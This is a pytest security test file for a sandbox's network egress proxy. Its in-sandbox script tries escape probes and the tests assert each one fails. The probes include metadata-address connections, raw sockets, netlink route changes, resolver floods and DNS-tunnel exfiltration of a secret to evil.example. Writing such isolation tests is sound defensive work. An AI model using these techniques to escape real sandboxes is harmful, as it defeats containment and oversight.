"""A program that wants out of a workspace in which names are answered and connections are taken elsewhere.

The driver makes the workspace's network, the agent's way out is at work in it, and a relay that the test plays
writes down whatever comes. Nothing may come but what is listed.
"""

import http.server
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest

from tests.security.hostile import Camp
from tests.system.outside import DOOR, Outside, hosts, relayed
from tests.waiting import until

RULES = [
    "one.example:443",
    "one.example:80",
    "*.many.example:443",
    "10.1.2.3:5000",
    "*.late.example:8443",
]
NAMES_ASKED = 400
CONNECTIONS = 400
ABSTRACT = f"\0taskyard-test-outside-{os.getpid()}"

BODY = r"""
import random, select, socket, struct, subprocess, sys, time
door = subprocess.Popen([sys.executable, "-I", "/opt/template/door.py", json.dumps(PLAN["rules"])],
                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, pass_fds=[9])
proxies = json.loads(door.stdout.readline())

def connect(host, port, family=socket.AF_INET):
    with socket.socket(family) as made:
        made.settimeout(30)
        made.connect((host, port))
        return made.recv(5)
def send(host, port):
    # The second one tells what became of the first.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(0.3)
        made.connect((host, port))
        made.send(b"out")
        return made.recv(5)
def question(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", 7, 256, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)
def ask(data, server=("127.0.0.1", 53)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(0.5)
        made.connect(server)
        for _ in range(10):  # questions that come in a flood are dropped, and so are asked again
            made.send(data)
            try:
                said = made.recv(600)
                break
            except TimeoutError:
                continue
    return [said[3] & 15, struct.unpack_from("!H", said, 6)[0], socket.inet_ntoa(said[-4:])]
def ask_tcp(data):
    with socket.create_connection(("127.0.0.1", 53), 30) as made:
        made.sendall(struct.pack("!H", len(data)) + data)
        return made.recv(600)[5] & 15
def get(host, port=80):
    with socket.create_connection((host, port), 30) as made:
        made.sendall(f"GET /said HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        said = b""
        while piece := made.recv(600):
            said += piece
    return said.partition(b"\r\n\r\n")[2].decode()

REPORT["able"] = tried(lambda: get("one.example"))
REPORT["able literal"] = tried(lambda: get("10.1.2.3", 5000))
addresses = {name: socket.gethostbyname(name) for name in ("one.example", "x.many.example")}
REPORT["addresses"] = addresses
REPORT["refused outside"] = tried(lambda: connect("one.example", 443))
REPORT["direct"] = {f"{host}:{port}": tried(lambda: connect(host, port)) for host, port in PLAN["direct"]}
REPORT["udp"] = {f"{host}:{port}": tried(lambda: send(host, port)) for host, port in PLAN["udp"]}
REPORT["ipv6"] = {host: tried(lambda: connect(host, port, socket.AF_INET6)) for host, port in PLAN["ipv6"]}
REPORT["abstract"] = tried(lambda: socket.socket(socket.AF_UNIX).connect(PLAN["abstract"]))
REPORT["sockets"] = {
    "raw": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)),
    "icmp": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "ping": tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
    "packet": tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))),
    "mark": tried(lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1)),
    "transparent": tried(lambda: socket.socket().setsockopt(socket.SOL_IP, 19, 1)),
}
def netlink(kind, flags, body):
    made = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    made.send(struct.pack("=IHHII", 16 + len(body), kind, flags | 5, 0, 0) + body)
    code = -struct.unpack_from("=i", made.recv(4096), 16)[0]
    if code:
        raise OSError(code, "netlink")
REPORT["network"] = {
    "route": tried(lambda: netlink(24, 0x400, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 3, 0, 1, 0)
             + struct.pack("=HHI", 8, 1, 0x01010101) + struct.pack("=HHI", 8, 4, 1))),
    "no route": tried(lambda: netlink(25, 0, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1))),
    "address": tried(lambda: netlink(20, 0x400, struct.pack("=BBBBI", 2, 8, 0, 0, 1) + struct.pack("=HHI", 8, 2, 0x0100000a))),
    "down": tried(lambda: netlink(16, 0, struct.pack("=BxHiII", 0, 0, 1, 0, 1))),
    "sysctl": tried(lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1")),
    "own": call("unshare", 0x40000000),
    "both": call("unshare", 0x50000000),
    "owner": call("ioctl", os.open("/proc/self/ns/net", os.O_RDONLY), 0xB701),
}
REPORT["links"] = sorted(line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:])

secret = "a2V5".ljust(60, "x")
REPORT["tunnel"] = {
    "unlisted": ask(question(secret + ".evil.example", 16)),
    "text below": ask(question(secret + ".many.example", 16)),
    "long": ask(question(".".join([secret] * 3) + ".one.example")),
    "alike": ask(question("one.example.evil.example")),
    "tcp": ask_tcp(question(secret + ".evil.example", 16)),
    "elsewhere": tried(lambda: ask(question("one.example"), ("8.8.8.8", 53))),
}
def bound(kind, host):
    made = socket.socket(socket.AF_INET, kind)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    made.bind((host, 53))
    if kind == socket.SOCK_STREAM:
        made.listen()
REPORT["resolver taken"] = [tried(lambda: bound(kind, host)) for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM)
                            for host in ("127.0.0.1", "0.0.0.0")]
with socket.create_server(("0.0.0.0", 8443)):
    REPORT["in the way"] = ask(question("x.late.example"))[0]
REPORT["out of the way"] = ask(question("x.late.example"))[0]
own = socket.create_server(("127.0.0.1", 443))
REPORT["own server"] = tried(lambda: socket.create_connection(("127.0.0.1", 443)) and own.accept() and 1)

def size():
    with open(f"/proc/{door.pid}/status") as file:
        kib = next(int(line.split()[1]) for line in file if line.startswith("VmRSS"))
    return len(os.listdir(f"/proc/{door.pid}/fd")), kib
before = size()
head = struct.pack("!6H", 7, 256, 1, 0, 0, 0)
noise = [b"", head, head + b"\xc0\x0c\0\1\0\1", head + b"\xc0" * 400, head + b"\x3f" * 500, question("one.example")[:-3],
         struct.pack("!6H", 7, 0x8180, 1, 0, 0, 0), struct.pack("!6H", 7, 256, 65535, 0, 0, 0) + question("one.example")[12:] * 9]
chance = random.Random(6)
noise += [head + chance.randbytes(chance.randrange(300)) for _ in range(500)]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
    for number in range(PLAN["names"]):
        flood.sendto(question(f"{number}.many.example"), ("127.0.0.1", 53))
    for data in noise:
        flood.sendto(data, ("127.0.0.1", 53))
REPORT["after noise"] = ask(question("one.example"))
held = []
for number in range(PLAN["connections"]):
    place = (("127.0.0.1", 53), (addresses["one.example"], 443), ("127.0.0.1", int(proxies["http_proxy"].split(":")[2])))[number % 3]
    made = socket.socket()
    made.setblocking(False)
    made.connect_ex(place)
    held.append(made)
time.sleep(0.3)
ask(question("one.example"))
REPORT["sizes"] = [before, size()]
for made in held:
    made.close()
deadline = time.monotonic() + 50
while (said := tried(lambda: get("one.example"))) != REPORT["able"] and time.monotonic() < deadline:
    time.sleep(0.02)
REPORT["after flood"] = said
door.kill()
REPORT["log"] = door.stderr.read()
"""


PROXIED = r"""
import subprocess, urllib.request
door = subprocess.Popen([sys.executable, "-I", "/opt/template/door.py", json.dumps(PLAN["rules"])],
                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
os.environ.update(json.loads(door.stdout.readline()))
REPORT["said"] = tried(lambda: urllib.request.urlopen("http://one.example/said").read())
door.kill()
REPORT["log"] = door.stderr.read()
"""


@dataclass
class Seen:
    """What the program reported, what reached the relay, and what reached the machine itself."""

    report: dict[str, Any]
    outside: Outside
    arrived: list[bytes]
    port: int


@contextmanager
def listening(arrived: list[bytes]) -> Iterator[int]:
    """A port of the machine on which TCP, on both families, UDP and an abstract socket take what comes."""
    with (
        http.server.ThreadingHTTPServer(("", 0), http.server.BaseHTTPRequestHandler) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as abstract,
    ):
        port = int(tcp.server_address[1])
        udp.bind(("", port))
        abstract.bind(ABSTRACT)
        abstract.listen()
        udp.settimeout(0.1)
        over = threading.Event()

        def take() -> None:
            while not over.is_set():
                try:
                    arrived.append(udp.recv(100))
                except TimeoutError:
                    continue

        thread = threading.Thread(target=take)
        thread.start()
        try:
            yield port
        finally:
            over.set()
            thread.join()


def own_address() -> str:
    """The machine's own address, if it has one but the loopback's."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        try:
            made.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.2"
        return str(made.getsockname()[0])


@pytest.fixture(scope="module")
def seen(camp: Camp) -> Iterator[Seen]:
    """What came of all attacks, tried once."""
    arrived: list[bytes] = []
    files = {"one.example": {"/said": b"listed"}, "10.1.2.3": {"/said": b"literal"}}
    with hosts(files) as port, listening(arrived) as own:
        places = {"one.example:80": port, "10.1.2.3:5000": port}
        with relayed(camp.link / "relay.sock", places) as outside:
            box = camp.start(BODY, plan(own), way_out=True, files={"door.py": DOOR})
            try:
                yield Seen(box.report(), outside, arrived, own)
            finally:
                box.destroy()


def plan(own: int) -> dict[str, object]:
    """What is tried; own is a port of this machine."""
    machine = own_address()
    direct = [(host, port) for host in ("93.184.216.34", "1.1.1.1") for port in (80, 443, 53, 22)]
    direct += [("169.254.169.254", 80), ("169.254.169.254", 443), ("100.100.100.200", 80)]
    direct += [
        (host, port) for host in ("10.0.0.1", "172.16.0.1", "192.168.0.1") for port in (80, 443)
    ]
    direct += [
        ("127.0.0.1", own),
        (machine, own),
        ("10.1.2.3", 443),
        ("10.1.2.4", 5000),
        ("198.19.255.1", 443),
    ]
    udp = [
        ("1.1.1.1", 53),
        ("8.8.8.8", 443),
        ("127.0.0.1", own),
        (machine, own),
        ("255.255.255.255", own),
    ]
    ipv6 = [("2606:4700:4700::1111", 443), ("fe80::1", 80), ("::1", own), ("::ffff:1.1.1.1", 443)]
    return {
        "rules": RULES, "direct": direct, "udp": udp[:-1], "ipv6": ipv6, "abstract": ABSTRACT,
        "names": NAMES_ASKED, "connections": CONNECTIONS,
    }  # fmt: skip


@pytest.mark.attack(
    "connects to what is listed, for comparison: every probe here can reach something",
    wall="none: this is the way out",
)
def test_the_probes_are_able(seen: Seen) -> None:
    """The same functions reach what is listed, through the relay; from outside they reach the machine's own port."""
    assert seen.report["able"] == "done: 'listed'"
    assert seen.report["able literal"] == "done: 'literal'"
    with socket.create_connection((own_address(), seen.port), 30):
        pass
    with socket.socket(socket.AF_UNIX) as abstract:
        abstract.connect(ABSTRACT)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        before = len(seen.arrived)
        udp.sendto(b"able", ("127.0.0.1", seen.port))
        until("what was sent", lambda: len(seen.arrived) > before or None)
    assert seen.arrived == [b"able"]


@pytest.mark.attack(
    "connects to addresses: public, private, of the cloud's metadata, of the machine itself",
    wall="every address that is not listed is the workspace itself, where nobody listens",
)
def test_addresses_lead_nowhere(seen: Seen) -> None:
    """Refused at once, on listed ports as on others; the relay does not even hear of it."""
    assert set(seen.report["direct"].values()) == {"ECONNREFUSED"}, seen.report["direct"]
    assert {target.rpartition(":")[0] for target in seen.outside.asked} <= {"one.example", "10.1.2.3"}  # fmt: skip


@pytest.mark.attack(
    "sends UDP: to resolvers, to the machine's loopback and its own address",
    wall="no interface but the workspace's own loopback",
)
def test_no_udp_leaves(seen: Seen) -> None:
    """Each is refused in here; nothing arrived outside."""
    assert set(seen.report["udp"].values()) == {"ECONNREFUSED"}, seen.report["udp"]
    assert b"out" not in seen.arrived


@pytest.mark.attack(
    "connects by IPv6, and to IPv4 in its clothes",
    wall="every address of IPv6 is the workspace itself, too",
)
def test_there_is_no_ipv6(seen: Seen) -> None:
    """No way for real ones; an IPv4 address in brackets is what it is without."""
    assert set(seen.report["ipv6"].values()) <= {"ENETUNREACH", "EADDRNOTAVAIL", "EINVAL", "ECONNREFUSED"}  # fmt: skip
    assert seen.report["ipv6"]["2606:4700:4700::1111"] in {"ECONNREFUSED", "ENETUNREACH"}


@pytest.mark.attack(
    "makes raw, packet and ping sockets, and marks packets",
    wall="no capability over the workspace's network, which belongs to nobody inside",
)
def test_no_raw_sockets(seen: Seen) -> None:
    """Every one is denied, so there is no ICMP and no forged packet, not even on the loopback."""
    assert set(seen.report["sockets"].values()) <= {"EPERM", "EACCES", "EAFNOSUPPORT"}, seen.report[
        "sockets"
    ]


@pytest.mark.attack(
    "changes routes, addresses and settings of its network, or makes one of its own",
    wall="the network belongs to the machine's user, or to one that nobody inside can name",
)
def test_the_network_stays_as_it_is(seen: Seen) -> None:
    """No verb of rtnetlink, no sysctl, no namespace; its owner is not shown. There is one interface."""
    answers = seen.report["network"]
    assert {word.partition(":")[0] for word in answers.values()} <= {"EPERM", "EACCES", "EROFS", "ENOSPC", "ENOSYS"}, answers  # fmt: skip
    assert seen.report["links"] == ["lo"]


@pytest.mark.attack(
    "connects to an abstract socket of the machine", wall="a network namespace of its own"
)
def test_abstract_sockets_are_not_shared(seen: Seen) -> None:
    """The name means nothing inside."""
    assert seen.report["abstract"] == "ECONNREFUSED"


@pytest.mark.attack(
    "carries a secret out in questions for names: below listed and unlisted ones, as text, by UDP and TCP",
    wall="the workspace's resolver asks nobody",
)
def test_questions_carry_nothing_out(seen: Seen) -> None:
    """No such name, or no such record. Of names that nobody connects to the server writes down unlisted ones alone."""
    tunnel = seen.report["tunnel"]
    assert [tunnel[word][:2] for word in ("unlisted", "text below", "long", "alike")] == [[3, 0], [0, 0], [3, 0], [3, 0]]  # fmt: skip
    assert tunnel["tcp"] == 3
    assert tunnel["elsewhere"] == "ECONNREFUSED"
    assert not [target for target in seen.outside.asked if "many" in target or "a2V5" in target]
    assert not [name for name in seen.outside.names if name.endswith(".many.example")]
    made_up = {text.rpartition(".")[0] for text in seen.report["addresses"].values()}
    assert made_up == {"198.18.0"}


@pytest.mark.attack(
    "takes the resolver's port to answer names itself", wall="the agent has it before anything runs"
)
def test_the_resolver_cannot_be_replaced(seen: Seen) -> None:
    """Neither on its address nor on all addresses, whatever options the socket has."""
    assert seen.report["resolver taken"] == ["EADDRINUSE"] * 4


@pytest.mark.attack(
    "floods the resolver with names and nonsense, and the listeners with connections",
    wall="bounded tables, listeners and connections",
)
def test_floods_are_bounded(seen: Seen) -> None:
    """The way out keeps few files and little memory, and works on afterwards."""
    (_, kib_before), (files, kib) = seen.report["sizes"]
    assert files < 700
    assert kib - kib_before < 16 * 1024
    assert seen.report["after noise"][:2] == [0, 1]
    assert seen.report["after flood"] == seen.report["able"]
    assert len(seen.report["log"].splitlines()) <= 130


@pytest.mark.attack(
    "listens on the loopback at a listed port",
    wall="listeners on made-up addresses alone: nothing of the workspace is taken for the outside",
)
def test_servers_of_the_workspace_stay_its_own(seen: Seen) -> None:
    """A program may listen on the loopback at a port that the template lists of another host."""
    assert seen.report["own server"] == "done: 1"


@pytest.mark.attack(
    "listens on all addresses at a listed port, to be taken for a listed host",
    wall="a name in whose way a program is has no address",
)
def test_who_listens_everywhere_is_not_taken_for_another(seen: Seen) -> None:
    """While a program has a listed port of all addresses the name has none, rather than that program's; then it has one."""
    assert seen.report["in the way"] == 2
    assert seen.report["out of the way"] == 0
    assert "listens on port 8443 of all addresses" in seen.report["log"]


@pytest.mark.attack(
    "connects to a listed name that the server refuses",
    wall="the server's relay decides each connection",
)
def test_what_the_server_refuses_is_reset(seen: Seen) -> None:
    """A listed name that cannot be reached ends as an error, not as an empty answer; the log says why, once."""
    assert seen.report["refused outside"] == "ECONNRESET"
    assert seen.report["log"].count("'one.example:443'") == 1


@pytest.mark.attack(
    "runs where the launcher could not make the network",
    wall="bubblewrap's own network, with the proxy as the only way out",
)
def test_without_that_network_the_proxy_is_left(camp: Camp) -> None:
    """Where the network could not be made programs that know proxies work, and the log says what does not."""
    files = {"one.example": {"/said": b"listed"}}
    with hosts(files) as port, relayed(camp.link / "relay.sock", {"one.example:80": port}):
        report = camp.inside(PROXIED, {"rules": RULES}, files={"door.py": DOOR})
    assert report["said"] == "done: b'listed'"
    assert report["log"].startswith("Programs that know no proxy reach nothing")


@pytest.mark.attack("connects to a port that another workspace listens on", wall="a network each")
def test_neighbours_do_not_meet(camp: Camp) -> None:
    """Both with a way out; the neighbour reaches itself."""
    tries = "REPORT['own'] = tried(lambda: socket.create_connection(('127.0.0.1', 7777), 30) and 1)"
    first = camp.start(
        f"import socket\nopened = socket.create_server(('0.0.0.0', 7777))\n{tries}", way_out=True
    )
    assert first.report()["own"] == "done: 1"
    assert camp.inside(f"import socket\n{tries}", way_out=True)["own"] == "ECONNREFUSED"
    first.destroy()
